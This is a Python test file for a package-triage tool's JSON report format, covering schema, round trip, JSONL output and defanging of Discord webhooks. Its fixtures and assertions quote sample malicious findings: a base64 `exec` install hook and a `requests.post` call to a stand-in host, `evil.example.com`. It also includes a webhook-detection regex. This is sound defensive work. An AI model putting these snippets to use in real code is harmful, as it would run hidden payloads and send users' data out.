"""JSON report: exact schema, exact round trip, webhooks broken in the written text."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import pytest

from tests.render_factory import (
    ENCODED,
    EXFIL,
    HOOK,
    SHA,
    benign_report,
    hostile_report,
    malicious_report,
)
from triage.model import Report
from triage.render import json_report
from triage.render.json_report import render, render_jsonl, report_from_dict, report_to_dict

LIVE_WEBHOOK = re.compile(r"discord(app)?\.com/api/webhooks/\d")


@pytest.mark.parametrize("factory", [malicious_report, benign_report, hostile_report])
def test_dict_round_trip_is_exact(factory: object) -> None:
    report: Report = factory()  # type: ignore[operator]
    assert report_from_dict(report_to_dict(report)) == report
    assert report_from_dict(json.loads(json.dumps(report_to_dict(report)))) == report


def test_text_round_trip_is_exact_apart_from_webhooks() -> None:
    report = malicious_report()
    loaded = report_from_dict(json.loads(render(report)))
    code = EXFIL.code.replace("discord.com/api", "discord[.]com/api")
    expected = replace(report, findings=(HOOK, ENCODED, replace(EXFIL, code=code)))
    assert loaded == expected
    assert report_from_dict(json.loads(render(benign_report()))) == benign_report()


def test_top_level_keys_and_values() -> None:
    d = json.loads(render(malicious_report()))
    assert list(d) == [
        "schema_version",
        "artifact",
        "verdict",
        "findings",
        "chain",
        "indicators",
        "skipped",
        "files_analysed",
        "engine",
        "notes",
        "rejected",
        "not_reviewed",
        "workflows",
        "llm",
        "elapsed_s",
    ]
    assert d["schema_version"] == "1.0"
    assert d["artifact"] == {
        "name": "evilpkg",
        "version": "1.0.2",
        "sha256": SHA,
        "kind": "sdist",
        "source": "evilpkg-1.0.2.tar.gz",
    }
    assert d["verdict"] == {
        "label": "malicious",
        "score": 96.5,
        "reasons": [
            "install hook runs an encoded payload",
            "payload exfiltrates data to evil.example.com",
        ],
    }
    assert d["chain"] == [
        {
            "phase": "install",
            "indicator": "code_execution_install_hook_override",
            "finding_index": 0,
        },
        {"phase": "install", "indicator": "code_execution_encoded_command", "finding_index": 1},
        {"phase": "install", "indicator": "code_exfiltration_data", "finding_index": 2},
    ]
    assert d["skipped"] == [
        {
            "path": "evilpkg/bin/payload.exe",
            "reason": "binary file (PE executable)",
            "evidence": True,
        },
        {"path": "evilpkg/logo.png", "reason": "binary file (PNG image)", "evidence": False},
    ]
    assert d["files_analysed"] == ["setup.py", "setup.py#decoded-1", "evilpkg/__init__.py"]
    assert d["engine"] == "anthropic/claude-sonnet-4"
    assert d["notes"] == ["evilpkg/big.py was not reviewed by the LLM (too large)"]
    assert d["elapsed_s"] == 1.25
    assert [i["id"] for i in d["indicators"]] == [
        "code_execution_install_hook_override",
        "code_execution_encoded_command",
        "code_exfiltration_data",
    ]
    assert d["indicators"][2]["attack"] == ["T1567.004"]


def test_finding_keys_and_exact_values() -> None:
    d = json.loads(render(malicious_report()))
    assert d["findings"][1] == {
        "file": "setup.py",
        "start_line": 12,
        "end_line": 13,
        "code": '        exec(base64.b64decode(\n            "aW1wb3J0IHJlcXVlc3Rz"))',
        "indicator": "code_execution_encoded_command",
        "type": "Execution Mechanism",
        "phase": "install",
        "severity": "critical",
        "confidence": 0.95,
        "source": "both",
        "justification": "Executes a base64-decoded payload with exec() while installing.",
        "statement_id": "setup.py:12:0",
        "origin": None,
    }
    exfil = d["findings"][2]
    assert exfil["file"] == "setup.py#decoded-1"
    assert exfil["origin"] == "setup.py:12:0"
    assert exfil["source"] == "llm"
    # Machine format: code stays exact (not defanged) apart from the webhook host.
    assert exfil["code"].startswith('requests.post("https://evil.example.com/collect", ')
    assert "https://discord[.]com/api/webhooks/123456789012345678/AbCdEf-token" in exfil["code"]


def test_text_format_indent_order_and_no_live_webhook() -> None:
    text = render(malicious_report())
    assert text.startswith('{\n  "schema_version": "1.0",\n  "artifact": {\n    "name": "evilpkg"')
    assert text.endswith("}\n")
    assert LIVE_WEBHOOK.search(text) is None
    assert LIVE_WEBHOOK.search(render_jsonl(malicious_report())) is None


def test_non_ascii_is_kept() -> None:
    report = replace(benign_report(), notes=("café → ok",))
    assert '"café → ok"' in render(report)
    assert '"café → ok"' in render_jsonl(report)


def test_jsonl_is_one_compact_line() -> None:
    line = render_jsonl(benign_report())
    assert "\n" not in line
    assert line.startswith('{"schema_version":"1.0","artifact":{"name":"goodpkg",')
    assert line.endswith('"engine":"static","notes":[],"rejected":[],"not_reviewed":[],'
                         '"workflows":[],"llm":null,"elapsed_s":0.1}')
    assert report_from_dict(json.loads(line)) == benign_report()


def test_integral_numbers_load_as_floats() -> None:
    d = report_to_dict(benign_report())
    d["verdict"]["score"] = 0
    d["elapsed_s"] = 1
    loaded = report_from_dict(d)
    assert loaded.verdict.score == 0.0 and isinstance(loaded.verdict.score, float)
    assert isinstance(loaded.elapsed_s, float)


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda d: d.pop("artifact"), "not a triage JSON report: KeyError: 'artifact'"),
        (
            lambda d: d["findings"][0].update(phase="later"),
            "not a triage JSON report: ValueError: 'later' is not a valid Phase",
        ),
        (
            lambda d: d["findings"][0].update(start_line="10"),
            "not a triage JSON report: TypeError: expected an integer, got str: '10'",
        ),
        (
            lambda d: d["artifact"].update(name=None),
            "not a triage JSON report: TypeError: expected a string, got NoneType: None",
        ),
    ],
)
def test_malformed_input_raises_value_error(mutate: object, message: str) -> None:
    d = report_to_dict(malicious_report())
    mutate(d)  # type: ignore[operator]
    with pytest.raises(ValueError) as err:
        report_from_dict(d)
    assert str(err.value) == message


def test_module_docstring_documents_the_machine_format_choice() -> None:
    doc = json_report.__doc__ or ""
    assert "kept exactly as found (not defanged)" in doc
    assert '"statement_id": str' in doc
